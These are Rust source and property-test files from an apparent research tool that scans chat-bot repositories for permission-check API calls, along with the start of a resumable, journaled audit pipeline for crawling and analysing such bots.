    AUTOMATON.get_or_init(|| AhoCorasick::new(CheckPattern::ALL.iter().map(|p| p.needle())))
}

/// Kernel counters for the Table 3 scanner (process-wide, since the needle
/// automaton is shared).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScannerKernelStats {
    /// DFA states in the needle automaton.
    pub automaton_states: u64,
    /// Completed scan passes (one per scanned source file).
    pub scans: u64,
    /// Total stripped-code bytes fed through the automaton.
    pub bytes_scanned: u64,
}

/// Snapshot the scanner's kernel counters.
pub fn scanner_kernel_stats() -> ScannerKernelStats {
    let automaton = table3_automaton();
    let ScanStats {
        scans,
        bytes_scanned,
    } = automaton.stats();
    ScannerKernelStats {
        automaton_states: automaton.state_count() as u64,
        scans,
        bytes_scanned,
    }
}

/// Count Table 3 pattern occurrences in one source file without
/// materializing the stripped code: the tokenizer's output bytes stream
/// straight into the shared needle automaton.
fn scan_file_fused(content: &str, lang: &Language, counts: &mut [usize; 4]) {
    let mut matcher = table3_automaton().stream_matcher();
    emit_code_bytes(content, lang, |b| {
        for hit in matcher.push(b) {
            counts[hit.pattern as usize] += 1;
        }
    });
}

fn find_subslice(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// Scan one repository for the Table 3 patterns.
///
/// Only JavaScript/TypeScript and Python files are scanned — the languages
/// the paper's analysis covers ("we only considered the bots developed
/// using the JavaScript and Python libraries").
pub fn scan_repository(repo: &Repository) -> ScanReport {
    let language = repo.main_language();
    let mut counts = [0usize; 4];
    let mut files_scanned = 0;
    for file in &repo.files {
        let Some(lang) = file.language() else {
            continue;
        };
        let in_scope = matches!(
            lang,
            Language::JavaScript | Language::TypeScript | Language::Python
        );
        if !in_scope {
            continue;
        }
        files_scanned += 1;
        scan_file_fused(&file.content, &lang, &mut counts);
    }
    let hits = CheckPattern::ALL
        .iter()
        .enumerate()
        .filter(|(idx, _)| counts[*idx] > 0)
        .map(|(idx, p)| (*p, counts[idx]))
        .collect();
    ScanReport {
        slug: repo.slug.clone(),
        language,
        hits,
        files_scanned,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::repo::SourceFile;

    fn js_repo(code: &str) -> Repository {
        Repository::new("dev/bot", "bot", vec![SourceFile::new("index.js", code)])
    }

    fn py_repo(code: &str) -> Repository {
        Repository::new("dev/bot", "bot", vec![SourceFile::new("bot.py", code)])
    }

    #[test]
    fn detects_has_permission() {
        let r = js_repo("if (message.member.hasPermission('KICK_MEMBERS')) { kick(); }");
        let report = scan_repository(&r);
        assert!(report.performs_checks());
        assert_eq!(report.hits, vec![(CheckPattern::HasPermission, 1)]);
    }

    #[test]
    fn detects_all_four_patterns() {
        let code = r#"
const ok = msg.member.permissions.has(Permissions.FLAGS.BAN_MEMBERS);
if (message.member.hasPermission('ADMINISTRATOR')) {}
const r = message.member.roles.cache.some(role => role.name === 'Mod');
module.exports = { userPermissions: ['MANAGE_MESSAGES'] };
"#;
        let report = scan_repository(&js_repo(code));
        let found: Vec<CheckPattern> = report.hits.iter().map(|(p, _)| *p).collect();
        assert_eq!(found, CheckPattern::ALL.to_vec());
    }

    #[test]
    fn comments_do_not_count_js() {
        let code =
            "// remember to call .hasPermission( here\n/* member.roles.cache */\nconst x = 1;";
        assert!(!scan_repository(&js_repo(code)).performs_checks());
    }

    #[test]
    fn strings_do_not_count_js() {
        let code = "console.log('.has( is an API'); const s = `userPermissions`;";
        assert!(!scan_repository(&js_repo(code)).performs_checks());
    }

    #[test]
    fn comments_do_not_count_python() {
        let code = "# ctx.author.guild_permissions.has( something\nx = 1\n";
        assert!(!scan_repository(&py_repo(code)).performs_checks());
    }

    #[test]
    fn python_docstrings_do_not_count() {
        let code = "\"\"\"uses member.roles.cache internally\"\"\"\ndef f():\n    pass\n";
        assert!(!scan_repository(&py_repo(code)).performs_checks());
    }

    #[test]
    fn python_real_check_counts() {
        let code = "async def kick(ctx):\n    if ctx.author.guild_permissions.has(kick_members=True):\n        await do_kick()\n";
        let report = scan_repository(&py_repo(code));
        assert_eq!(report.hits, vec![(CheckPattern::Has, 1)]);
        assert_eq!(report.language, Some(Language::Python));
    }

    #[test]
    fn out_of_scope_languages_not_scanned() {
        let repo = Repository::new(
            "dev/gobot",
            "go bot",
            vec![SourceFile::new("main.go", "m.member.hasPermission(x)")],
        );
        let report = scan_repository(&repo);
        assert_eq!(report.files_scanned, 0);
        assert!(!report.performs_checks());
        assert_eq!(report.language, Some(Language::Other("Go".into())));
    }

    #[test]
    fn counts_accumulate_across_files() {
        let repo = Repository::new(
            "dev/big",
            "",
            vec![
                SourceFile::new("a.js", "x.has(1); y.has(2);"),
                SourceFile::new("b.js", "z.has(3);"),
            ],
        );
        let report = scan_repository(&repo);
        assert_eq!(report.hits, vec![(CheckPattern::Has, 3)]);
        assert_eq!(report.files_scanned, 2);
    }

    #[test]
    fn escaped_quotes_inside_strings() {
        let code = r#"const s = "escaped \" quote .has( inside"; real.has(x);"#;
        let report = scan_repository(&js_repo(code));
        assert_eq!(report.hits, vec![(CheckPattern::Has, 1)]);
    }

    #[test]
    fn unterminated_string_swallows_to_line_end_only() {
        let code = "const s = 'unterminated\nreal.has(x);";
        let report = scan_repository(&js_repo(code));
        assert_eq!(report.hits, vec![(CheckPattern::Has, 1)]);
    }

    #[test]
    fn readme_only_repo_scans_clean() {
        let repo = Repository::new(
            "dev/readme",
            "",
            vec![SourceFile::new(
                "READ.ME",
                "commands: !kick — requires .hasPermission(",
            )],
        );
        let report = scan_repository(&repo);
        assert_eq!(report.files_scanned, 0);
        assert!(!report.performs_checks());
    }
}
