//! The Table 3 permission-check scanner.
//!
//! | # | Pattern              |
//! |---|----------------------|
//! | 1 | `.hasPermission(`    |
//! | 2 | `.has(`              |
//! | 3 | `member.roles.cache` |
//! | 4 | `userPermissions`    |
//!
//! Matching is performed on *code*, not raw text: line comments and string
//! literals are stripped first, so `// TODO call .hasPermission()` and
//! `"say .has( to confuse scanners"` do not count. This is the automated
//! analogue of the paper's "build an automated approach that looks for
//! these APIs".

use crate::repo::{Language, Repository};
use serde::{Deserialize, Serialize};

/// One of the four check patterns.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum CheckPattern {
    /// `.hasPermission(`
    HasPermission,
    /// `.has(`
    Has,
    /// `member.roles.cache`
    MemberRolesCache,
    /// `userPermissions`
    UserPermissions,
}

impl CheckPattern {
    /// All four patterns, in Table 3 order.
    pub const ALL: [CheckPattern; 4] = [
        CheckPattern::HasPermission,
        CheckPattern::Has,
        CheckPattern::MemberRolesCache,
        CheckPattern::UserPermissions,
    ];

    /// The literal source text to look for.
    pub fn needle(self) -> &'static str {
        match self {
            CheckPattern::HasPermission => ".hasPermission(",
            CheckPattern::Has => ".has(",
            CheckPattern::MemberRolesCache => "member.roles.cache",
            CheckPattern::UserPermissions => "userPermissions",
        }
    }
}

/// Scan result for one repository.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScanReport {
    /// Repo slug.
    pub slug: String,
    /// Main language scanned (only JS/TS/Python repos are scanned).
    pub language: Option<Language>,
    /// Patterns found, with occurrence counts.
    pub hits: Vec<(CheckPattern, usize)>,
    /// Total files scanned.
    pub files_scanned: usize,
}

impl ScanReport {
    /// Whether any check pattern appears — the paper's per-repo boolean.
    pub fn performs_checks(&self) -> bool {
        !self.hits.is_empty()
    }
}

/// Strip line comments and string literals for the given language.
///
/// JS/TS: `//` comments, `/* */` blocks, `'`/`"`/`` ` `` strings.
/// Python: `#` comments, `'`/`"` strings (including naive triple-quote
/// handling). Escapes inside strings are honoured.
pub fn strip_noncode(content: &str, lang: &Language) -> String {
    // Operates on raw bytes: source files can contain arbitrary UTF-8 (or
    // worse) in comments and strings, and byte-offset slicing of a &str
    // would panic on multibyte characters.
    let bytes = content.as_bytes();
    let line_comment: &[u8] = match lang {
        Language::Python => b"#",
        _ => b"//",
    };
    let block_comments = !matches!(lang, Language::Python);
    let mut out: Vec<u8> = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        // Line comments.
        if bytes[i..].starts_with(line_comment) {
            while i < bytes.len() && bytes[i] != b'\n' {
                i += 1;
            }
            continue;
        }
        // Block comments.
        if block_comments && bytes[i..].starts_with(b"/*") {
            match find_subslice(&bytes[i + 2..], b"*/") {
                Some(end) => {
                    i += 2 + end + 2;
                }
                None => break, // unterminated block comment swallows the rest
            }
            continue;
        }
        // Strings.
        let c = bytes[i];
        if c == b'"' || c == b'\'' || (c == b'`' && block_comments) {
            // Triple quotes in Python.
            let triple = matches!(lang, Language::Python)
                && i + 2 < bytes.len()
                && bytes[i + 1] == c
                && bytes[i + 2] == c;
            let delim_len = if triple { 3 } else { 1 };
            let mut j = i + delim_len;
            while j < bytes.len() {
                if bytes[j] == b'\\' {
                    j += 2;
                    continue;
                }
                if triple {
                    if bytes[j..].starts_with(&[c, c, c]) {
                        j += 3;
                        break;
                    }
                    j += 1;
                } else if bytes[j] == c || bytes[j] == b'\n' {
                    j += 1;
                    break;
                } else {
                    j += 1;
                }
            }
            out.push(b' '); // keep token separation
            i = j;
            continue;
        }
        out.push(c);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn find_subslice(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// Scan one repository for the Table 3 patterns.
///
/// Only JavaScript/TypeScript and Python files are scanned — the languages
/// the paper's analysis covers ("we only considered the bots developed
/// using the JavaScript and Python libraries").
pub fn scan_repository(repo: &Repository) -> ScanReport {
    let language = repo.main_language();
    let mut counts = [0usize; 4];
    let mut files_scanned = 0;
    for file in &repo.files {
        let Some(lang) = file.language() else { continue };
        let in_scope = matches!(lang, Language::JavaScript | Language::TypeScript | Language::Python);
        if !in_scope {
            continue;
        }
        files_scanned += 1;
        let code = strip_noncode(&file.content, &lang);
        for (idx, pattern) in CheckPattern::ALL.iter().enumerate() {
            counts[idx] += code.matches(pattern.needle()).count();
        }
    }
    let hits = CheckPattern::ALL
        .iter()
        .enumerate()
        .filter(|(idx, _)| counts[*idx] > 0)
        .map(|(idx, p)| (*p, counts[idx]))
        .collect();
    ScanReport { slug: repo.slug.clone(), language, hits, files_scanned }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::repo::SourceFile;

    fn js_repo(code: &str) -> Repository {
        Repository::new("dev/bot", "bot", vec![SourceFile::new("index.js", code)])
    }

    fn py_repo(code: &str) -> Repository {
        Repository::new("dev/bot", "bot", vec![SourceFile::new("bot.py", code)])
    }

    #[test]
    fn detects_has_permission() {
        let r = js_repo("if (message.member.hasPermission('KICK_MEMBERS')) { kick(); }");
        let report = scan_repository(&r);
        assert!(report.performs_checks());
        assert_eq!(report.hits, vec![(CheckPattern::HasPermission, 1)]);
    }

    #[test]
    fn detects_all_four_patterns() {
        let code = r#"
const ok = msg.member.permissions.has(Permissions.FLAGS.BAN_MEMBERS);
if (message.member.hasPermission('ADMINISTRATOR')) {}
const r = message.member.roles.cache.some(role => role.name === 'Mod');
module.exports = { userPermissions: ['MANAGE_MESSAGES'] };
"#;
        let report = scan_repository(&js_repo(code));
        let found: Vec<CheckPattern> = report.hits.iter().map(|(p, _)| *p).collect();
        assert_eq!(found, CheckPattern::ALL.to_vec());
    }

    #[test]
    fn comments_do_not_count_js() {
        let code = "// remember to call .hasPermission( here\n/* member.roles.cache */\nconst x = 1;";
        assert!(!scan_repository(&js_repo(code)).performs_checks());
    }

    #[test]
    fn strings_do_not_count_js() {
        let code = "console.log('.has( is an API'); const s = `userPermissions`;";
        assert!(!scan_repository(&js_repo(code)).performs_checks());
    }

    #[test]
    fn comments_do_not_count_python() {
        let code = "# ctx.author.guild_permissions.has( something\nx = 1\n";
        assert!(!scan_repository(&py_repo(code)).performs_checks());
    }

    #[test]
    fn python_docstrings_do_not_count() {
        let code = "\"\"\"uses member.roles.cache internally\"\"\"\ndef f():\n    pass\n";
        assert!(!scan_repository(&py_repo(code)).performs_checks());
    }

    #[test]
    fn python_real_check_counts() {
        let code = "async def kick(ctx):\n    if ctx.author.guild_permissions.has(kick_members=True):\n        await do_kick()\n";
        let report = scan_repository(&py_repo(code));
        assert_eq!(report.hits, vec![(CheckPattern::Has, 1)]);
        assert_eq!(report.language, Some(Language::Python));
    }

    #[test]
    fn out_of_scope_languages_not_scanned() {
        let repo = Repository::new(
            "dev/gobot",
            "go bot",
            vec![SourceFile::new("main.go", "m.member.hasPermission(x)")],
        );
        let report = scan_repository(&repo);
        assert_eq!(report.files_scanned, 0);
        assert!(!report.performs_checks());
        assert_eq!(report.language, Some(Language::Other("Go".into())));
    }

    #[test]
    fn counts_accumulate_across_files() {
        let repo = Repository::new(
            "dev/big",
            "",
            vec![
                SourceFile::new("a.js", "x.has(1); y.has(2);"),
                SourceFile::new("b.js", "z.has(3);"),
            ],
        );
        let report = scan_repository(&repo);
        assert_eq!(report.hits, vec![(CheckPattern::Has, 3)]);
        assert_eq!(report.files_scanned, 2);
    }

    #[test]
    fn escaped_quotes_inside_strings() {
        let code = r#"const s = "escaped \" quote .has( inside"; real.has(x);"#;
        let report = scan_repository(&js_repo(code));
        assert_eq!(report.hits, vec![(CheckPattern::Has, 1)]);
    }

    #[test]
    fn unterminated_string_swallows_to_line_end_only() {
        let code = "const s = 'unterminated\nreal.has(x);";
        let report = scan_repository(&js_repo(code));
        assert_eq!(report.hits, vec![(CheckPattern::Has, 1)]);
    }

    #[test]
    fn readme_only_repo_scans_clean() {
        let repo = Repository::new(
            "dev/readme",
            "",
            vec![SourceFile::new("READ.ME", "commands: !kick — requires .hasPermission(")],
        );
        let report = scan_repository(&repo);
        assert_eq!(report.files_scanned, 0);
        assert!(!report.performs_checks());
    }
}
