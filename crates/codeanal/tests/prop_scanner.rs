//! Property tests for the permission-check scanner.

use codeanal::scanner::{scan_repository, strip_noncode, CheckPattern};
use codeanal::{Language, Repository, SourceFile};
use proptest::prelude::*;

proptest! {
    /// Stripping comments/strings never panics and never grows the code.
    #[test]
    fn strip_noncode_total_and_shrinking(src in "\\PC{0,400}") {
        for lang in [Language::JavaScript, Language::Python] {
            let stripped = strip_noncode(&src, &lang);
            prop_assert!(stripped.len() <= src.len() + 64, "bounded output");
        }
    }

    /// Pattern text inside string literals must never count, whatever
    /// surrounds it.
    #[test]
    fn patterns_in_strings_never_count(prefix in "[a-z ]{0,20}", suffix in "[a-z ]{0,20}") {
        for pattern in CheckPattern::ALL {
            let code = format!("{prefix}const s = \"{}\"; {suffix}\n", pattern.needle());
            let repo = Repository::new("p/p", "", vec![SourceFile::new("a.js", &code)]);
            prop_assert!(
                !scan_repository(&repo).performs_checks(),
                "false positive for {pattern:?} in {code:?}"
            );
        }
    }

    /// Pattern text in real code always counts, whatever identifier carries
    /// the call.
    #[test]
    fn patterns_in_code_always_count(ident in "[a-z][a-zA-Z0-9]{0,10}") {
        let code = format!("if ({ident}.member.hasPermission('KICK_MEMBERS')) kick();\n");
        let repo = Repository::new("p/p", "", vec![SourceFile::new("a.js", &code)]);
        let report = scan_repository(&repo);
        prop_assert!(report.performs_checks());
        prop_assert_eq!(report.hits[0].0, CheckPattern::HasPermission);
    }

    /// Scan counts are additive over files.
    #[test]
    fn scan_counts_are_additive(n_files in 1usize..6, per_file in 1usize..4) {
        let files: Vec<SourceFile> = (0..n_files)
            .map(|i| {
                let body = "x.permissions.has(F.KICK);\n".repeat(per_file);
                SourceFile::new(&format!("f{i}.js"), &body)
            })
            .collect();
        let repo = Repository::new("p/p", "", files);
        let report = scan_repository(&repo);
        let total: usize = report.hits.iter().map(|(_, n)| n).sum();
        prop_assert_eq!(total, n_files * per_file);
        prop_assert_eq!(report.files_scanned, n_files);
    }
}
