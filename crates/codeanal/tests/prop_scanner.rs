//! Property tests for the permission-check scanner.

use codeanal::scanner::{scan_repository, strip_noncode, CheckPattern};
use codeanal::{genrepo, Language, Repository, SourceFile};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

/// Reference scan: materialize the stripped code, then count each needle
/// with `str::matches` — the pre-fusion implementation the streaming scan
/// must agree with byte-for-byte.
fn naive_counts(content: &str, lang: &Language) -> [usize; 4] {
    let code = strip_noncode(content, lang);
    let mut counts = [0usize; 4];
    for (idx, pattern) in CheckPattern::ALL.iter().enumerate() {
        counts[idx] = code.matches(pattern.needle()).count();
    }
    counts
}

fn fused_counts(content: &str, ext: &str) -> [usize; 4] {
    let repo = Repository::new(
        "p/p",
        "",
        vec![SourceFile::new(&format!("f.{ext}"), content)],
    );
    let report = scan_repository(&repo);
    let mut counts = [0usize; 4];
    for (pattern, n) in &report.hits {
        counts[CheckPattern::ALL.iter().position(|p| p == pattern).unwrap()] = *n;
    }
    counts
}

proptest! {
    /// Stripping comments/strings never panics and never grows the code.
    #[test]
    fn strip_noncode_total_and_shrinking(src in "\\PC{0,400}") {
        for lang in [Language::JavaScript, Language::Python] {
            let stripped = strip_noncode(&src, &lang);
            prop_assert!(stripped.len() <= src.len() + 64, "bounded output");
        }
    }

    /// Pattern text inside string literals must never count, whatever
    /// surrounds it.
    #[test]
    fn patterns_in_strings_never_count(prefix in "[a-z ]{0,20}", suffix in "[a-z ]{0,20}") {
        for pattern in CheckPattern::ALL {
            let code = format!("{prefix}const s = \"{}\"; {suffix}\n", pattern.needle());
            let repo = Repository::new("p/p", "", vec![SourceFile::new("a.js", &code)]);
            prop_assert!(
                !scan_repository(&repo).performs_checks(),
                "false positive for {pattern:?} in {code:?}"
            );
        }
    }

    /// Pattern text in real code always counts, whatever identifier carries
    /// the call.
    #[test]
    fn patterns_in_code_always_count(ident in "[a-z][a-zA-Z0-9]{0,10}") {
        let code = format!("if ({ident}.member.hasPermission('KICK_MEMBERS')) kick();\n");
        let repo = Repository::new("p/p", "", vec![SourceFile::new("a.js", &code)]);
        let report = scan_repository(&repo);
        prop_assert!(report.performs_checks());
        prop_assert_eq!(report.hits[0].0, CheckPattern::HasPermission);
    }

    /// The fused streaming scan agrees with strip-then-match on adversarial
    /// text: needles, quotes, comment openers, escapes, and newlines mixed
    /// arbitrarily.
    #[test]
    fn fused_scan_matches_strip_then_count(
        token_indices in proptest::collection::vec(0usize..14, 0..24),
        filler in "[a-z (){};.]{0,8}",
    ) {
        // Adversarial vocabulary: the four needles, every quote/comment
        // delimiter, escapes, newlines, and a random filler word.
        const TOKENS: [&str; 13] = [
            ".hasPermission(", ".has(", "member.roles.cache", "userPermissions",
            "\"", "'", "`", "//", "/*", "*/", "#", "\\", "\n",
        ];
        let src: String = token_indices
            .iter()
            .map(|&i| if i < TOKENS.len() { TOKENS[i] } else { filler.as_str() })
            .collect();
        for (lang, ext) in [(Language::JavaScript, "js"), (Language::Python, "py")] {
            prop_assert_eq!(
                fused_counts(&src, ext),
                naive_counts(&src, &lang),
                "language {:?}, source {:?}",
                lang,
                src
            );
        }
    }

    /// Same agreement on realistic generated bot repositories (the corpus
    /// the actual measurement scans).
    #[test]
    fn fused_scan_matches_reference_on_generated_repos(seed in any::<u64>(), with_checks in any::<bool>()) {
        let mut rng = StdRng::seed_from_u64(seed);
        let repos = [
            genrepo::js_bot_repo(&mut rng, "d/js", with_checks),
            genrepo::py_bot_repo(&mut rng, "d/py", with_checks),
        ];
        for repo in &repos {
            let report = scan_repository(repo);
            let mut expected = [0usize; 4];
            for file in &repo.files {
                let Some(lang) = file.language() else { continue };
                if !matches!(lang, Language::JavaScript | Language::TypeScript | Language::Python) {
                    continue;
                }
                let per_file = naive_counts(&file.content, &lang);
                for (total, n) in expected.iter_mut().zip(per_file) {
                    *total += n;
                }
            }
            let mut got = [0usize; 4];
            for (pattern, n) in &report.hits {
                got[CheckPattern::ALL.iter().position(|p| p == pattern).unwrap()] = *n;
            }
            prop_assert_eq!(got, expected, "repo {}", repo.slug);
        }
    }

    /// Scan counts are additive over files.
    #[test]
    fn scan_counts_are_additive(n_files in 1usize..6, per_file in 1usize..4) {
        let files: Vec<SourceFile> = (0..n_files)
            .map(|i| {
                let body = "x.permissions.has(F.KICK);\n".repeat(per_file);
                SourceFile::new(&format!("f{i}.js"), &body)
            })
            .collect();
        let repo = Repository::new("p/p", "", files);
        let report = scan_repository(&repo);
        let total: usize = report.hits.iter().map(|(_, n)| n).sum();
        prop_assert_eq!(total, n_files * per_file);
        prop_assert_eq!(report.files_scanned, n_files);
    }
}
