//! The resumable incremental pipeline.
//!
//! The paper's measurement ran for weeks and was restarted many times; every
//! restart re-paid crawl and analysis work. This module routes the pipeline
//! of [`crate::pipeline`] through a [`store::AuditStore`]: each completed
//! unit of work — the listing traversal, every fixed-size chunk of detail
//! pages, every per-bot analysis, the honeypot campaign — is durably
//! journaled the moment it finishes, and analysis outputs live in a
//! content-addressed artifact cache keyed by the bot's crawled bytes.
//!
//! Two properties follow, and the test suite pins both down:
//!
//! * **Crash-equivalence.** A run killed after any number of frames, then
//!   resumed, produces a canonical report byte-identical to an uninterrupted
//!   run. This leans on the fabric's guarantee (proved by the
//!   sharded-vs-serial tests) that request *content* is independent of
//!   request scheduling, so skipping already-journaled requests does not
//!   perturb the remainder.
//! * **Incrementality.** A fresh (non-resumed) run against a warm artifact
//!   pack re-crawls but performs **zero** policy or code re-analyses for
//!   unchanged bots — the artifact counters in [`store::StoreStats`] (also
//!   mirrored into the pipeline's obs registry under `store.*`) prove it.
//!
//! Journal layout is worker-count independent: detail pages are journaled in
//! fixed [`CRAWL_UNIT_SIZE`] chunks whose session seeds depend only on the
//! crawl seed and chunk index, and analyses are journaled per listing index.

use crate::pipeline::{AuditConfig, AuditPipeline, AuditReport, AuditedBot, CodeFinding};
use codeanal::LinkCache;
use crawler::crawl::{
    crawl_detail_unit_traced, discover_listing_traced, resolve_workers, CrawlStats, CrawledBot,
    DetailUnit, ListingIndex, SessionOverhead,
};
use crawler::incremental::{
    crawl_detail_unit_validated, discover_listing_validated, fetch_changed_hrefs, ValidatorStore,
};
use honeypot::campaign::{CampaignReport, GuildSnapshot};
use obs::Severity;
use parking_lot::Mutex;
use policy::{AnalysisMemo, DataPractice, TraceabilityReport};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use store::{
    AuditStore, Backend, ContentHash, DiskBackend, MemBackend, StoreError, StoreStats,
    ValidatorCache,
};
use synth::Ecosystem;

/// Journal frame kind: the merged listing index (phase A). Key 0.
pub const K_LISTING: u16 = 0x0010;
/// Journal frame kind: one detail-page chunk. Key = chunk index.
pub const K_CRAWL_UNIT: u16 = 0x0011;
/// Journal frame kind: one bot's analysis; payload is the 16-byte content
/// address of the artifact. Key = listing index.
pub const K_ANALYSIS: u16 = 0x0012;
/// Journal frame kind: the honeypot campaign report. Key 0.
pub const K_HONEYPOT: u16 = 0x0013;
/// Journal frame kind: run-complete marker. Key 0.
pub const K_COMPLETE: u16 = 0x0014;

/// Detail hrefs per journaled crawl unit. Fixed (never derived from the
/// worker count) so the journal layout is identical whatever parallelism
/// produced it.
pub const CRAWL_UNIT_SIZE: usize = 32;

/// Where and how a resumable run persists.
#[derive(Clone)]
pub struct StoreConfig {
    /// The storage backend (in-memory for tests, disk for real runs).
    pub backend: Arc<dyn Backend>,
    /// Replay a compatible existing journal instead of starting fresh. The
    /// artifact pack is warm either way — content addressing makes it safe.
    pub resume: bool,
    /// Arm the crash lever: allow this many journal appends, then fail the
    /// run with [`ResumeError::Interrupted`] exactly as if the process died.
    pub kill_after_frames: Option<u64>,
}

impl StoreConfig {
    /// A hermetic in-memory store (fresh run, no kill switch).
    pub fn in_memory() -> StoreConfig {
        StoreConfig {
            backend: Arc::new(MemBackend::new()),
            resume: false,
            kill_after_frames: None,
        }
    }

    /// A disk store rooted at `dir` (fresh run, no kill switch). Creates
    /// the directory if needed.
    pub fn on_disk(dir: impl Into<std::path::PathBuf>) -> std::io::Result<StoreConfig> {
        Ok(StoreConfig {
            backend: Arc::new(DiskBackend::open(dir)?),
            resume: false,
            kill_after_frames: None,
        })
    }

    /// The same store, opened in resume mode.
    pub fn resuming(mut self) -> StoreConfig {
        self.resume = true;
        self
    }

    /// The same store with the crash lever armed after `frames` appends.
    pub fn killing_after(mut self, frames: u64) -> StoreConfig {
        self.kill_after_frames = Some(frames);
        self
    }
}

impl fmt::Debug for StoreConfig {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("StoreConfig")
            .field("resume", &self.resume)
            .field("kill_after_frames", &self.kill_after_frames)
            .finish_non_exhaustive()
    }
}

/// Why a resumable run did not complete.
#[derive(Debug)]
pub enum ResumeError {
    /// The armed kill switch fired mid-run (the simulated crash). Every
    /// frame written before the crash is durable and will replay.
    Interrupted {
        /// Journal frames durably written before the simulated crash.
        frames_written: u64,
    },
    /// The storage backend failed.
    Store(StoreError),
}

impl fmt::Display for ResumeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ResumeError::Interrupted { frames_written } => {
                write!(f, "run interrupted after {frames_written} durable frames")
            }
            ResumeError::Store(e) => write!(f, "store failure: {e}"),
        }
    }
}

impl std::error::Error for ResumeError {}

/// A completed resumable run.
///
/// Memoization and kernel counters live on the pipeline's obs registry
/// (`analysis.*`, `policy.*`, `code.*`, `store.*`) — read them through
/// [`AuditPipeline::obs`].
#[derive(Debug)]
pub struct ResumableOutcome {
    /// The full report, canonical-identical to an uninterrupted run.
    pub report: AuditReport,
    /// Raw store counters for this handle (journal frames written/replayed,
    /// artifact cache hits/misses).
    pub store_stats: StoreStats,
    /// Every artifact-pack address the completing handle referenced,
    /// sorted and deduplicated — what the fleet's epoch chain records so
    /// generational compaction keeps this run's blobs live.
    pub referenced_keys: Vec<store::ContentHash>,
}

/// The journaled analysis output for one bot: everything [`AuditedBot`]
/// adds on top of the crawl. Stored as a content-addressed artifact so an
/// unchanged bot is never re-analyzed, even across unrelated runs.
#[derive(Debug, Clone, Serialize, Deserialize)]
struct AnalysisArtifact {
    traceability: TraceabilityReport,
    code: Option<CodeFinding>,
}

/// Digest of everything that shapes measurement *content*. Parallelism
/// knobs (`crawl.workers`, `workers`, `honeypot.workers`) are deliberately
/// excluded: output is byte-identical across worker counts, so a journal
/// written at `--workers 8` resumes correctly at `--workers 1`.
pub fn run_fingerprint(config: &AuditConfig, world_seed: u64) -> u64 {
    let c = &config.crawl;
    let h = &config.honeypot;
    let ontology: Vec<String> = DataPractice::ALL
        .iter()
        .map(|p| format!("{p:?}={}", config.ontology.keywords(*p).join(",")))
        .collect();
    let text = format!(
        "platform={}|crawl(max_pages={:?},validate={},policies={},seed={},polite={},host={})|\
         honeypot(personas={},feed={},seed={},auto_verify={},webhooks={})|\
         sample={}|ontology[{}]",
        c.platform,
        c.max_pages,
        c.validate_invites,
        c.fetch_policies,
        c.seed,
        c.polite,
        c.list_host,
        h.personas_per_guild,
        h.feed_messages,
        h.seed,
        h.auto_verify_personas,
        h.plant_webhook_canaries,
        config.honeypot_sample,
        ontology.join(";"),
    );
    store::fingerprint(&[
        b"audit-store-v1",
        &world_seed.to_le_bytes(),
        text.as_bytes(),
    ])
}

/// The content address of a bot's analysis: the run-config digest plus the
/// bot's full crawled bytes. Any change to the bot (new policy text, new
/// invite outcome) or to the analyzers' configuration moves the address.
fn artifact_key(fingerprint: u64, bot: &CrawledBot) -> ContentHash {
    let bytes = serde_json::to_vec(bot).expect("crawled bot serializes");
    artifact_key_raw(fingerprint, &bytes)
}

/// [`artifact_key`] over an existing `serde_json::to_vec` encoding of the
/// bot. The warm crawl hands these bytes back (cached or freshly written),
/// so keying from them skips a per-bot re-serialization while producing
/// the identical hash a cold run computes from the struct.
fn artifact_key_raw(fingerprint: u64, bot_json: &[u8]) -> ContentHash {
    ContentHash::of_parts(&[b"analysis-v1", &fingerprint.to_le_bytes(), bot_json])
}

/// Everything the warm crawl path carries: the tenant's journaled
/// validator cache, the set of detail hrefs the site's change ledger names
/// since the cache's committed epoch, and the epoch to commit once the
/// crawl completes. Absent (`None` at the call sites) the pipeline crawls
/// cold — incrementality is a performance overlay, never a correctness
/// dependency.
pub(crate) struct IncrementalContext {
    cache: Arc<ValidatorCache>,
    changed: BTreeSet<String>,
    epoch: u32,
}

/// [`ValidatorStore`] over the journaled [`ValidatorCache`]. Write failures
/// are swallowed: validators are performance state — a lost entry costs an
/// extra full fetch on the next run, never a wrong crawl.
struct CacheStore(Arc<ValidatorCache>);

impl ValidatorStore for CacheStore {
    fn get(&self, key: &str) -> Option<Vec<u8>> {
        self.0.get(key)
    }

    fn put(&self, key: &str, value: &[u8]) {
        let _ = self.0.put(key, value);
    }
}

/// The content address of one honeypot guild's cached transcript. Keyed on
/// everything that shapes the guild's phase-2 run: the run fingerprint
/// (campaign config, seeds), the bot's RNG-stream index in bot-name order,
/// and the bot's identity — name, rendered invite URL, behaviour class. A
/// behaviour flip or permission-creeped invite moves the address, so a
/// drifted bot can never replay a stale transcript.
fn guild_snapshot_key(
    fingerprint: u64,
    index: usize,
    name: &str,
    invite: &str,
    behavior_class: &str,
) -> ContentHash {
    ContentHash::of_parts(&[
        b"honeypot-guild-v1",
        &fingerprint.to_le_bytes(),
        &(index as u64).to_le_bytes(),
        name.as_bytes(),
        invite.as_bytes(),
        behavior_class.as_bytes(),
    ])
}

fn record(store: &AuditStore, kind: u16, key: u64, payload: Vec<u8>) -> Result<(), ResumeError> {
    store.record_unit(kind, key, payload).map_err(|e| match e {
        StoreError::Interrupted => ResumeError::Interrupted {
            frames_written: store.stats().frames_written,
        },
        other => ResumeError::Store(other),
    })
}

impl AuditPipeline {
